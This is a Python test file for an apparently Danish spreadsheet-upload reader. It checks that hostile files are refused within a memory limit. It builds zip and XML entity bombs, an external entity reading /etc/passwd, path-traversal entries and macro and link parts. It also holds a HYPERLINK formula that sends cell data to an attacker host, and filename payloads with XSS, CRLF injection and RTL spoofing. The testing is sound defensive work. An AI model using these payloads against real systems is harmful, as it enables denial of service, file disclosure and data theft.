"""Files that are not what they say, that grow when unpacked, or that reach outside: refused in words, in little memory."""

from __future__ import annotations

import io
import random
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from roedtraad.exchange import reading, workbooks
from roedtraad.exchange.formats import FORMATS
from roedtraad.exchange.reading import FileRefused, opened
from roedtraad.exchange.services import clean_filename

FORM = FORMATS["enheder"]
SHEET = "xl/worksheets/sheet1.xml"


def workbook(rows: list[list[Any]] | None = None) -> bytes:
    """A good workbook with the form's headings and one row, or the rows given."""
    book = Workbook()
    for row in rows or [FORM.headings, FORM.example]:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(change: Callable[[dict[str, bytes]], None], **how: Any) -> bytes:
    """A good workbook with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes = b"<x/>") -> bytes:
    return changed(lambda parts: parts.update({name: content}))


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)

    return changed(change)


def doubled() -> bytes:
    out = io.BytesIO(workbook())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr(SHEET, b"<worksheet/>")
    return out.getvalue()


def overlapping() -> bytes:
    """Two names for the same packed bytes: a bomb whose parts are all the same part."""
    raw = bytearray(workbook())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        infos = archive.infolist()
    directory = raw.index(b"PK\x01\x02")
    first = infos[0].header_offset
    position = directory
    for _info in infos:
        raw[position + 42 : position + 46] = first.to_bytes(4, "little")
        lengths = [int.from_bytes(raw[position + at : position + at + 2], "little") for at in (28, 30, 32)]
        position += 46 + sum(lengths)
    return bytes(raw)


def said_small() -> bytes:
    """The directory says that a sheet of 20 MB unpacks to 100 bytes."""
    raw = bytearray(changed(lambda parts: parts.update({SHEET: b"<worksheet>" + b" " * 20_000_000})))
    name = SHEET.encode()
    entry = raw.rindex(name) - 46
    raw[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    return bytes(raw)


ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
XML = b'<?xml version="1.0"?>'


def typed(declaration: bytes, part: str = "xl/workbook.xml") -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        body = parts[part]
        parts[part] = XML + declaration + (body.split(b"?>", 1)[1] if body.startswith(b"<?xml") else body)

    return changed(change)


def wide_text() -> bytes:
    body = '<?xml version="1.0" encoding="UTF-16"?>' + ENTITIES.decode() + "<worksheet/>"
    return with_part(SHEET, body.encode("utf-16"))


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "et billede"),
    "a drawing": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "et billede"),
    "a paper": (lambda: b"%PDF-1.7\n1 0 obj", "et dokument"),
    "a paper of letters": (lambda: b"{\\rtf1 hej}", "et dokument"),
    "a page": (lambda: b"<html><script>alert(1)</script></html>", "ligner ikke"),
    "a program": (lambda: b"MZ\x90\0\3\0\0\0" + b"\0" * 100, "ikke et regneark"),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "gamle Excel-format"),
    "nothing": (lambda: b"", "tom"),
    "a cut workbook": (lambda: workbook()[:-200], "beskadiget"),
    "a workbook's beginning": (lambda: b"PK\x03\x04" + b"\0" * 50, "beskadiget"),
    "a zip of something": (lambda: changed(lambda p: p.pop("xl/workbook.xml") and None), "ikke et regneark"),
    "macros": (lambda: with_part("xl/vbaProject.bin"), "makroer"),
    "macros in capitals": (lambda: with_part("xl/VBAPROJECT.BIN"), "makroer"),
    "macros by their kind": (
        lambda: replaced(
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        "makroer",
    ),
    "old macros": (lambda: with_part("xl/macrosheets/sheet1.xml"), "makroer"),
    "ActiveX": (lambda: with_part("xl/activeX/activeX1.xml"), "makroer"),
    "links to other files (DDE)": (lambda: with_part("xl/externalLinks/externalLink1.xml"), "andre filer"),
    "a connection": (lambda: with_part("xl/connections.xml"), "andre filer"),
    "a query": (lambda: with_part("xl/queryTables/queryTable1.xml"), "andre filer"),
    "a file inside": (lambda: with_part("xl/embeddings/oleObject1.bin"), "andre filer inde"),
    "a zip inside": (lambda: with_part("xl/media/inner.zip", workbook()), "andre filer inde"),
    "a bomb": (lambda: with_part("xl/media/image1.png", b"\0" * 80_000_000), "for stor"),
    "a bomb as a sheet": (lambda: with_part(SHEET, b"<worksheet>" + b" " * 50_000_000), "for stor"),
    "texts that fill the memory": (
        lambda: with_part("xl/sharedStrings.xml", random.Random(1).randbytes(3_000) * 25_000),
        "for stor",
    ),
    "thousands of parts": (
        lambda: changed(lambda p: p.update({f"xl/x{n}.xml": b"<x/>" for n in range(2_100)})),
        "for stor",
    ),
    "entities that grow": (lambda: typed(ENTITIES), "beskadiget"),
    "entities in the sheet": (lambda: typed(ENTITIES, SHEET), "beskadiget"),
    "entities in wide letters": (wide_text, "beskadiget"),
    "an entity that is a file": (lambda: typed(OUTSIDE), "beskadiget"),
    "an entity after a long comment": (
        lambda: typed(b"<!--" + random.Random(1).randbytes(1_000_000).hex().encode() + b"-->" + ENTITIES),
        "beskadiget",
    ),
    "a part named twice": (doubled, "beskadiget"),
    "parts upon each other": (overlapping, "beskadiget|ikke et regneark"),
    "a size that is not true": (said_small, "beskadiget"),
    "a path upwards": (lambda: with_part("../../../tmp/x.xml"), "beskadiget"),
    "a path from the root": (lambda: with_part("/etc/passwd"), "beskadiget"),
    "one row without end": (lambda: FORM.headings[0].encode() + b";" * 2_000_000, "meget lang"),
    "a row over many lines": (
        lambda: (";".join(FORM.headings) + "\r\n" + '"\n";' * 700_000).encode(),
        "meget lang",
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_in_words_and_in_little_memory(what: str, tmp_path: Path) -> None:
    made, words = HOSTILE[what]
    path = tmp_path / "fil"
    path.write_bytes(made())
    tracemalloc.start()
    try:
        with pytest.raises(FileRefused, match=words) as refused, opened(path, FORM) as table:
            list(table.rows)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert str(refused.value).endswith(".")
    assert peak < 40 * 2**20


def test_a_row_far_away_costs_no_more_than_the_sheet_may_have(tmp_path: Path) -> None:
    path = tmp_path / "fil"
    path.write_bytes(replaced(SHEET, b'<row r="2"', b'<row r="999999999999"'))
    with opened(path, FORM) as table:
        assert list(table.rows) == []


def test_a_cell_far_to_the_right_costs_nothing(tmp_path: Path) -> None:
    path = tmp_path / "fil"
    path.write_bytes(replaced(SHEET, b"</row></sheetData>", b'<c r="XFD2"><v>1</v></c></row></sheetData>'))
    with opened(path, FORM) as table:
        [(_number, row)] = list(table.rows)
    assert set(row) == {column.name for column in FORM.columns}


def test_a_formula_is_not_worked_out(tmp_path: Path) -> None:
    path = tmp_path / "fil"
    formula = '=HYPERLINK("http://attacker.invalid/?"&A1)'
    path.write_bytes(workbook([FORM.headings, [formula, *FORM.example[1:]]]))
    with opened(path, FORM) as table:
        [(_number, row)] = list(table.rows)
    # A workbook keeps beside a formula what it came to when it was saved; this one was never worked out.
    assert row[FORM.columns[0].name] is None


def test_an_honest_large_workbook_is_not_taken_for_a_bomb(tmp_path: Path) -> None:
    path = tmp_path / "fil"
    path.write_bytes(workbook([FORM.headings, *[FORM.example] * 8_000]))
    with opened(path, FORM) as table:
        assert sum(1 for _row in table.rows) == 8_000


def test_the_limits_are_in_order() -> None:
    assert workbooks.LARGEST_HELD < workbooks.LARGEST_UNPACKED
    assert reading.LARGEST < workbooks.LARGEST_UNPACKED


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("a\x00b.csv", "a_b.csv"),
        ("tal\u202evsc.exe", "tal_vsc.exe"),
        ("<img src=x onerror=alert(1)>.csv", "_img src_x onerror_alert(1)_.csv"),
        ("a\r\nX-Evil: 1.csv", "a__X-Evil_ 1.csv"),
        ("", "fil"),
        ("..", "fil"),
        ("é" * 500, "é" * 120),
    ],
)
def test_a_files_name_is_only_a_name(name: str, kept: str) -> None:
    assert clean_filename(name) == kept
